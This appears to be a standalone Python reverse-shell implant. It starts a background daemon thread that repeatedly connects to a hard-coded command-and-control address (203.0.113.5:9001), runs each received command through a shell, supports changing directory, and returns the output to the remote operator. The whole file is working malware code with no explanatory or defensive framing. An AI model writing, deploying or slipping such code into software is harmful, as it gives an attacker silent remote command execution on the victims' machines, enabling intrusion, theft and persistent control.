import os
import socket
import subprocess
import threading
import time

C2 = ("203.0.113.5", 9001)


def _serve(conn):
    conn.send(os.getcwd().encode() + b"> ")
    while True:
        cmd = conn.recv(4096).decode().strip()
        if cmd == "exit":
            break
        if cmd.startswith("cd "):
            os.chdir(cmd[3:])
            conn.send(os.getcwd().encode() + b"> ")
            continue
        proc = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.PIPE)
        out = proc.stdout.read() + proc.stderr.read()
        conn.sendall(out + os.getcwd().encode() + b"> ")


def _loop():
    while True:
        try:
            conn = socket.create_connection(C2)
            _serve(conn)
        except OSError:
            time.sleep(30)


def start():
    threading.Thread(target=_loop, daemon=True).start()
